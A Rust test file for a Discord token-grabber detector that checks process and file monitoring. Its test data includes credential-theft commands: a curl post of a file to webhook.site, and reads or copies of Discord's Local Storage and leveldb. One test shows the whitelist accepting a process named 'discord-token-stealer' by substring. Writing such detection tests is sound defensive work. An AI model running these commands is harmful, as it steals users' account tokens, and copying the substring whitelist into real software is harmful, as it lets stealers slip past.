use discord_shield::config::ShieldConfig;
use discord_shield::file_monitor::{
    handle_event, is_artifact_lowered_name, is_sensitive_file, is_sensitive_lowered_name,
    looks_like_grabber_artifact, plan_start, FileAction,
    FileActionKind, FsEventKind, MonitorStart,
};
use discord_shield::process_monitor::{process_entry, ProcessMonitor, ThreatKind};

fn proc(pid: u32, name: &str, cmd: &str) -> (u32, String, String) {
    (pid, name.to_string(), cmd.to_string())
}

#[test]
fn suspicious_processes() {
    let c = ShieldConfig::default();
    assert!(ProcessMonitor::is_suspicious_process("TokenLogger", "", &c));
    assert!(ProcessMonitor::is_suspicious_process("bash", "curl -d @x https://webhook.site/?discord=1", &c));
    assert!(ProcessMonitor::is_suspicious_process("bash", "cat ~/.config/Discord/Local Storage/x", &c));
    assert!(ProcessMonitor::is_suspicious_process("cp", "cp -r leveldb /tmp", &c));
    assert!(ProcessMonitor::is_suspicious_process("node", "node read.js discord tok", &c) == false);
    assert!(ProcessMonitor::is_suspicious_process("python3", "python3 x.py discord --token", &c));
    assert!(!ProcessMonitor::is_suspicious_process("firefox", "/usr/lib/firefox/firefox", &c));
}

#[test]
fn whitelist_matches_by_substring() {
    let c = ShieldConfig::default();
    assert!(ProcessMonitor::is_whitelisted("Discord.exe", &c));
    assert!(ProcessMonitor::is_whitelisted("discord-token-stealer", &c));
    assert!(!ProcessMonitor::is_whitelisted("Discord", &c));
}

#[test]
fn scan_reports_and_blocks_once() {
    let c = ShieldConfig::default();
    let mut m = ProcessMonitor::new(&c);
    assert!(m.monitoring_enabled());
    let procs = vec![
        proc(10, "discord", "discord --token"),
        proc(11, "grabber", "grabber.exe"),
        proc(12, "bash", "bash"),
        proc(11, "grabber", "grabber.exe"),
    ];
    let actions = m.scan_processes(&procs);
    let seen: Vec<(ThreatKind, u32, String)> = actions.into_iter().map(|a| (a.kind, a.pid, a.name)).collect();
    assert_eq!(
        seen,
        vec![
            (ThreatKind::Detected, 11, "grabber".to_string()),
            (ThreatKind::Blocked, 11, "grabber".to_string()),
            (ThreatKind::Detected, 11, "grabber".to_string()),
        ]
    );
    assert!(m.is_blocked(11));
    assert!(!m.is_blocked(10));
    let again = m.scan_processes(&procs);
    assert_eq!(again.len(), 2);
    assert!(again.iter().all(|a| a.kind == ThreatKind::Detected));
}

#[test]
fn no_blocking_when_switched_off() {
    let mut c = ShieldConfig::default();
    c.block_grabbers = false;
    let mut m = ProcessMonitor::new(&c);
    let actions = m.scan_processes(&vec![proc(5, "stealer", "")]);
    assert_eq!(actions.len(), 1);
    assert_eq!(actions[0].kind, ThreatKind::Detected);
    assert!(!m.is_blocked(5));
}

#[test]
fn handle_threat_reports_new_pids_only() {
    let mut m = ProcessMonitor::new(&ShieldConfig::default());
    assert!(m.handle_threat(3));
    assert!(!m.handle_threat(3));
    assert!(m.is_blocked(3));
}

#[test]
fn process_entries() {
    assert_eq!(
        process_entry(9, " python3\n", "python3\0x.py\0"),
        Some((9, "python3".to_string(), "python3 x.py ".to_string()))
    );
    assert_eq!(process_entry(9, " \n", "x"), None);
}

#[test]
fn sensitive_files() {
    assert!(is_sensitive_file(Some("000005.LDB")));
    assert!(is_sensitive_file(Some("LOG.log")));
    assert!(is_sensitive_file(Some("my_token.txt")));
    assert!(is_sensitive_file(Some("Local Storage")));
    assert!(!is_sensitive_file(Some("CURRENT")));
    assert!(!is_sensitive_file(None));
}

#[test]
fn grabber_artifacts() {
    assert!(looks_like_grabber_artifact(Some("Dump.txt")));
    assert!(looks_like_grabber_artifact(Some("webhook.json")));
    assert!(!looks_like_grabber_artifact(Some("000003.log")));
    assert!(!looks_like_grabber_artifact(None));
}

#[test]
fn events_to_actions() {
    let names = vec![Some("000003.ldb".to_string()), None, Some("grab.py".to_string()), Some("x".to_string())];
    assert_eq!(
        handle_event(FsEventKind::Access, &names),
        vec![FileAction { kind: FileActionKind::SensitiveAccessed, index: 0 }]
    );
    assert_eq!(
        handle_event(FsEventKind::Modify, &names),
        vec![FileAction { kind: FileActionKind::SensitiveModified, index: 0 }]
    );
    assert_eq!(
        handle_event(FsEventKind::Create, &names),
        vec![FileAction { kind: FileActionKind::QuarantineArtifact, index: 2 }]
    );
    assert!(handle_event(FsEventKind::Other, &names).is_empty());
}

#[test]
fn file_monitor_start_plan() {
    let mut c = ShieldConfig::default();
    assert_eq!(plan_start(&c, 2), MonitorStart::Watch);
    assert_eq!(plan_start(&c, 0), MonitorStart::NoPaths);
    c.file_monitoring = false;
    assert_eq!(plan_start(&c, 2), MonitorStart::Disabled);
}

#[test]
fn lowered_file_names() {
    assert!(is_sensitive_lowered_name("000005.ldb"));
    assert!(!is_sensitive_lowered_name("000005.LDB"));
    assert!(is_sensitive_lowered_name("local storage"));
    assert!(!is_sensitive_lowered_name("current"));
    assert!(is_artifact_lowered_name("exfil.bin"));
    assert!(!is_artifact_lowered_name("EXFIL.bin"));
}

#[test]
fn suspicious_from_lowered_parts() {
    let c = ShieldConfig::default();
    assert!(ProcessMonitor::is_suspicious_lowered("tokenlogger", "", false, &c));
    assert!(!ProcessMonitor::is_suspicious_lowered("TokenLogger", "", false, &c));
    assert!(ProcessMonitor::is_suspicious_lowered("cp", "cp x y", true, &c));
    assert!(!ProcessMonitor::is_suspicious_lowered("cp", "cp x y", false, &c));
    assert!(ProcessMonitor::is_suspicious_lowered("node", "node a.js discord leveldb", false, &c));
    assert!(!ProcessMonitor::is_suspicious_lowered("bash", "bash a.sh discord leveldb", false, &c));
}

#[test]
fn detection_ignores_ascii_case() {
    let c = ShieldConfig::default();
    let cases = [
        ("TokenLogger", ""),
        ("bash", "cat ~/.config/Discord/Local Storage/x"),
        ("cp", "cp -r LevelDB /tmp"),
        ("Python3", "python3 x.py Discord --TOKEN"),
        ("firefox", "/usr/lib/firefox/firefox"),
        ("node", "node read.js discord tok"),
    ];
    for (name, cmd) in cases {
        assert_eq!(
            ProcessMonitor::is_suspicious_process(name, cmd, &c),
            ProcessMonitor::is_suspicious_process(&name.to_ascii_uppercase(), &cmd.to_ascii_uppercase(), &c)
        );
    }
}
